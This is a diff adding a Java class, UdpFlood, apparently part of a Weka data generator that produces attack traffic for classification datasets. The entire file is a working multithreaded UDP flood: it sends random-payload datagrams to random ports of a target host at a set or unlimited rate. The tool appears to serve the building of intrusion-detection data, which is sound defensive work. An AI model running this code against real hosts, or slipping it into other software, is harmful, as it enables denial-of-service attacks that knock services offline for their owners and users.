@@ -0,0 +1,207 @@
+package weka.datagenerators.classifiers.classification.pcap.attack;
+
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.nio.ByteBuffer;
+import java.nio.channels.ClosedByInterruptException;
+import java.nio.channels.DatagramChannel;
+import java.util.ArrayList;
+import java.util.BitSet;
+import java.util.List;
+import java.util.Random;
+import java.util.concurrent.atomic.LongAdder;
+
+import weka.datagenerators.classifiers.classification.pcap.PacketDecoder;
+
+/**
+ * UDP flood: datagrams with a random lowercase payload of 50 to 500 bytes are
+ * sent to random ports of the target.
+ *
+ * Each sender thread owns one datagram channel, a pool of preallocated
+ * payload buffers and a pool of target addresses, so nothing is allocated per
+ * packet. The packet rate is split between the threads and paced by a token
+ * bucket per thread; a rate of 0 sends as fast as possible. The number of
+ * packets and bytes sent is available while the flood runs.
+ */
+public class UdpFlood implements Attack {
+
+    private static final int MIN_PAYLOAD = 50;
+    private static final int MAX_PAYLOAD = 500;
+    private static final int PAYLOADS = 64;
+    private static final int TARGETS = 1024;
+
+    private final int packetsPerSecond;
+    private final int threads;
+
+    private final LongAdder sentPackets = new LongAdder();
+    private final LongAdder sentBytes = new LongAdder();
+    private final List<Thread> senders = new ArrayList<Thread>();
+    private final BitSet localPorts = new BitSet(65536);
+    private volatile boolean running;
+
+    /**
+     * Creates a UDP flood.
+     *
+     * @param packetsPerSecond the total packet rate, 0 for no limit.
+     * @param threads          the number of sender threads.
+     */
+    public UdpFlood(int packetsPerSecond, int threads) {
+        this.packetsPerSecond = Math.max(packetsPerSecond, 0);
+        this.threads = Math.max(threads, 1);
+    }
+
+    @Override
+    public String getName() {
+        return "udp";
+    }
+
+    @Override
+    public int getProtocol() {
+        return PacketDecoder.PROTOCOL_UDP;
+    }
+
+    @Override
+    public synchronized BitSet getLocalPorts() {
+        return (BitSet) localPorts.clone();
+    }
+
+    /**
+     * Starts the sender threads.
+     *
+     * @param target the attacked host.
+     * @throws IOException if a channel could not be opened.
+     */
+    @Override
+    public synchronized void start(InetAddress target) throws IOException {
+        if (running) {
+            return;
+        }
+        System.out.println("UDP flood started on " + target.getHostAddress() + " ("
+                + (packetsPerSecond == 0 ? "unlimited" : packetsPerSecond + " packets/s") + ", " + threads
+                + " threads)");
+
+        running = true;
+        for (int i = 0; i < threads; i++) {
+            // Split the rate, the first threads take the remainder
+            int rate = packetsPerSecond / threads + (i < packetsPerSecond % threads ? 1 : 0);
+            if (packetsPerSecond != 0 && rate == 0) {
+                continue;
+            }
+            DatagramChannel channel = DatagramChannel.open();
+            channel.bind(null);
+            localPorts.set(((InetSocketAddress) channel.getLocalAddress()).getPort());
+            Thread sender = new Thread(new Sender(channel, target, rate, new Random(i)), "UdpFlood-" + i);
+            sender.setDaemon(true);
+            senders.add(sender);
+            sender.start();
+        }
+    }
+
+    /**
+     * Stops the sender threads and waits for them.
+     *
+     * @throws InterruptedException if interrupted while waiting.
+     */
+    @Override
+    public synchronized void stop() throws InterruptedException {
+        running = false;
+        for (Thread sender : senders) {
+            sender.interrupt();
+        }
+        for (Thread sender : senders) {
+            sender.join();
+        }
+        senders.clear();
+        System.out.println("UDP flood finished: " + getSentPackets() + " packets, " + getSentBytes() + " bytes");
+    }
+
+    /**
+     * Checks if the flood is running.
+     *
+     * @return true between start and stop.
+     */
+    @Override
+    public boolean isRunning() {
+        return running;
+    }
+
+    /**
+     * Gets the number of packets sent so far.
+     *
+     * @return the number of packets.
+     */
+    @Override
+    public long getSentPackets() {
+        return sentPackets.sum();
+    }
+
+    /**
+     * Gets the number of payload bytes sent so far.
+     *
+     * @return the number of bytes.
+     */
+    @Override
+    public long getSentBytes() {
+        return sentBytes.sum();
+    }
+
+    /**
+     * Sends the datagrams of one thread.
+     */
+    private final class Sender implements Runnable {
+        private final DatagramChannel channel;
+        private final ByteBuffer[] payloads = new ByteBuffer[PAYLOADS];
+        private final InetSocketAddress[] targets = new InetSocketAddress[TARGETS];
+        private final TokenBucket pacer;
+
+        Sender(DatagramChannel channel, InetAddress target, int rate, Random random) {
+            this.channel = channel;
+            for (int i = 0; i < payloads.length; i++) {
+                byte[] payload = new byte[MIN_PAYLOAD + random.nextInt(MAX_PAYLOAD - MIN_PAYLOAD + 1)];
+                for (int j = 0; j < payload.length; j++) {
+                    payload[j] = (byte) ('a' + random.nextInt(26));
+                }
+                payloads[i] = ByteBuffer.allocateDirect(payload.length);
+                payloads[i].put(payload);
+            }
+            for (int i = 0; i < targets.length; i++) {
+                targets[i] = new InetSocketAddress(target, 1 + random.nextInt(65535));
+            }
+            // Allow a burst of 10 ms of traffic
+            this.pacer = rate > 0 ? new TokenBucket(rate, rate / 100.0) : null;
+        }
+
+        @Override
+        public void run() {
+            int payload = 0;
+            int port = 0;
+            try {
+                while (running) {
+                    if (pacer != null) {
+                        pacer.acquire();
+                    }
+                    ByteBuffer buffer = payloads[payload];
+                    buffer.clear();
+                    int sent = channel.send(buffer, targets[port]);
+                    sentPackets.increment();
+                    sentBytes.add(sent);
+                    payload = (payload + 1) % payloads.length;
+                    port = (port + 1) % targets.length;
+                }
+            } catch (InterruptedException | ClosedByInterruptException e) {
+                // Stopped
+            } catch (IOException e) {
+                if (running) {
+                    e.printStackTrace();
+                }
+            } finally {
+                try {
+                    channel.close();
+                } catch (IOException e) {
+                    e.printStackTrace();
+                }
+            }
+        }
+    }
+}